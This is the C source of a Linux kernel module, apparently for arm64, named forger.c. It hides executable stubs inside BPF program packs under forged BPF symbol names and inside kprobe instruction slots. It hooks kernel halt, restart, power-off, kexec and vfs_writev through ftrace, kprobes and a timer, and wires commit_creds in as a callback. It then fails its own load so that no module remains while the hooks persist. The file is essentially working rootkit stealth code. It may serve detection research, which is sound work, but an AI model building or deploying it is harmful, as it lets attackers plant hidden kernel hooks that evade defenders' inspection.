// SPDX-License-Identifier: GPL-2.0-only
/*
 * forger.c - leaves code where only BPF and kprobes put theirs, hooks the kernel with it, and goes: no module is left
 *
 * technique:
 *   pack      code in a pack of BPF, named by a bpf_ksym of its own: an ftrace_ops on kernel_halt, a direct call of kernel_restart
 *   unnamed   code in a pack of BPF without a name, which nothing calls
 *   slot      code in slots of a page of kprobes: a kprobe on vfs_writev, an ftrace_ops on kernel_power_off
 *   timer     code in a pack of BPF without a name, after the header that a program has, which a timer calls
 *   function  an ftrace_ops on kernel_kexec whose callback is commit_creds
 *
 * Addresses of what modules may not call are parameters.
 */
#include <linux/bpf.h>
#include <linux/cred.h>
#include <linux/filter.h>
#include <linux/ftrace.h>
#include <linux/kprobes.h>
#include <linux/module.h>
#include <linux/slab.h>
#include <linux/timer.h>

#define MOV_W0_0 0x52800000
#define RET 0xd65f03c0

static char *technique = "";
module_param(technique, charp, 0);
static unsigned long bpf_prog_pack_alloc_at, bpf_ksym_add_at, bpf_arch_text_copy_at, get_insn_slot_at, insn_slots_at, patch_at;
module_param(bpf_prog_pack_alloc_at, ulong, 0);
module_param(bpf_ksym_add_at, ulong, 0);
module_param(bpf_arch_text_copy_at, ulong, 0);
module_param(get_insn_slot_at, ulong, 0);
module_param(insn_slots_at, ulong, 0);
module_param(patch_at, ulong, 0);

static const u32 returns_0[] = { MOV_W0_0, RET }, like_program[] = { 64, MOV_W0_0, RET };

static void fill(void *area, unsigned int size)
{
	memset(area, 0, size);
}

static void *in_pack(const char *name, const u32 *words, size_t size)
{
	void *(*allocate)(u32 size, bpf_jit_fill_hole_t fill, bool was_classic) = (void *)bpf_prog_pack_alloc_at;
	void *(*copy)(void *to, void *from, size_t size) = (void *)bpf_arch_text_copy_at;
	void (*add)(struct bpf_ksym *ksym) = (void *)bpf_ksym_add_at;
	struct bpf_ksym *ksym = kzalloc(sizeof(*ksym), GFP_KERNEL);
	void *code = allocate(64, fill, false);

	if (!ksym || !code)
		return NULL;
	copy(code, (void *)words, size);
	if (name) {
		strscpy(ksym->name, name);
		ksym->start = (unsigned long)code;
		ksym->end = ksym->start + 64;
		ksym->prog = true;
		INIT_LIST_HEAD_RCU(&ksym->lnode);
		add(ksym);
	}
	return code;
}

static void *in_slot(void)
{
	void *(*get)(void *cache) = (void *)get_insn_slot_at;
	int (*patch)(void *at, u32 word) = (void *)patch_at;
	char *slot = get((void *)insn_slots_at);

	patch(slot, MOV_W0_0);
	patch(slot + 4, RET);
	return slot;
}

static void trace(char *name, void *callback)
{
	struct ftrace_ops *ops = kzalloc(sizeof(*ops), GFP_KERNEL);

	ops->func = callback;
	ftrace_set_filter(ops, name, strlen(name), 0);
	register_ftrace_function(ops);
}

static void call_directly(char *name, void *code)
{
	struct ftrace_ops *ops = kzalloc(sizeof(*ops), GFP_KERNEL);

	ftrace_set_filter(ops, name, strlen(name), 0);
	register_ftrace_direct(ops, (unsigned long)code);
}

static void probe(const char *name, void *handler)
{
	struct kprobe *left = kzalloc(sizeof(*left), GFP_KERNEL);

	left->symbol_name = name;
	left->pre_handler = handler;
	register_kprobe(left);
}

static void call_later(void *code)
{
	struct timer_list *timer = kzalloc(sizeof(*timer), GFP_KERNEL);

	timer_setup(timer, code, 0);
	mod_timer(timer, jiffies + 3600 * HZ);
}

static int __init forger_init(void)
{
	if (!strcmp(technique, "pack")) {
		trace("kernel_halt", in_pack("bpf_prog_0123456789abcdef_ops", returns_0, sizeof(returns_0)));
		call_directly("kernel_restart", in_pack("bpf_trampoline_6442560841", returns_0, sizeof(returns_0)));
	} else if (!strcmp(technique, "unnamed")) {
		in_pack(NULL, returns_0, sizeof(returns_0));
	} else if (!strcmp(technique, "timer")) {
		call_later((char *)in_pack(NULL, like_program, sizeof(like_program)) + 4);
	} else if (!strcmp(technique, "slot")) {
		probe("vfs_writev", in_slot());
		trace("kernel_power_off", in_slot());
	} else if (!strcmp(technique, "function")) {
		trace("kernel_kexec", commit_creds);
	}
	return -ENODEV;
}

module_init(forger_init);
MODULE_DESCRIPTION("Hooks with code that looks like that of BPF and kprobes");
MODULE_LICENSE("GPL");
